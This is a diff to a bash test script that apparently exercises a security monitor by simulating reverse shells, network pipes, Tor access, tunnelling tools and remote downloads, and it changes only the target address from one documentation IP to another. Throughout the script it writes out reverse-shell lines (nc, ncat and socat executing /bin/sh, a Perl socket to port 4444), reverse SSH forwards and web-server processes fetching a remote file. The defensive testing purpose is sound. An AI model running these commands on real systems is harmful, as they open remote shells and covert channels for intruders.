@@ -1,11 +1,11 @@
 #!/bin/bash
-# addresses: 192.0.2.1/32
+# addresses: 198.51.100.7/32
 # The line to the machine: shells and network pipes on the network, tunnels, downloads that hide. The other end is this
 # machine itself, and the tools are stand-ins.
 . /usr/local/lib/scenario.sh
 set -u
 
-to_other='socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 192, 0, 2, 1)) or die;'
+to_other='socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 198, 51, 100, 7)) or die;'
 wait='socket(L, 2, 1, 0); bind(L, pack("S n C4 x8", 2, 0, 127, 0, 0, 1)); listen(L, 1) or die;'
 
 for name in $SHELLS $NETWORK_PIPES; do
@@ -16,25 +16,25 @@ for name in $NETWORK_PIPES; do
     perl_as "$name" -e "$wait"
 done
 for name in nc ncat netcat nc.traditional; do
-    play "$name" 192.0.2.1 4444 -e /bin/sh
+    play "$name" 198.51.100.7 4444 -e /bin/sh
 done
-play nc -c /bin/sh 192.0.2.1 4444
-play ncat --exec /bin/sh 192.0.2.1 4444
-play ncat --sh-exec id 192.0.2.1 4444
-play socat TCP:192.0.2.1:4444 EXEC:/bin/sh
-play socat TCP:192.0.2.1:4444 SYSTEM:id
+play nc -c /bin/sh 198.51.100.7 4444
+play ncat --exec /bin/sh 198.51.100.7 4444
+play ncat --sh-exec id 198.51.100.7 4444
+play socat TCP:198.51.100.7:4444 EXEC:/bin/sh
+play socat TCP:198.51.100.7:4444 SYSTEM:id
 for name in tor torsocks torify obfs4proxy; do
     play "$name"
 done
 play curl http://abcdefghijklmnop.onion/
 for name in ngrok chisel cloudflared frpc gost bore iodine dnscat ptunnel proxychains4; do
-    play "$name" 192.0.2.1
+    play "$name" 198.51.100.7
 done
-play ssh -R 2222:localhost:22 192.0.2.1
-play ssh -N -R 2222:localhost:22 192.0.2.1
-play ssh -o RemoteForward=2222 192.0.2.1
+play ssh -R 2222:localhost:22 198.51.100.7
+play ssh -N -R 2222:localhost:22 198.51.100.7
+play ssh -o RemoteForward=2222 198.51.100.7
 for name in $WEB_SERVERS php-fpm8.2; do
-    act "$name" '/usr/local/as/true/curl http://192.0.2.1/x'
+    act "$name" '/usr/local/as/true/curl http://198.51.100.7/x'
 done
 act nginx "/usr/local/as/act/x 'for name in $(echo $FETCHERS); do /usr/local/as/true/\$name x; done'"
 for name in $FETCHERS; do
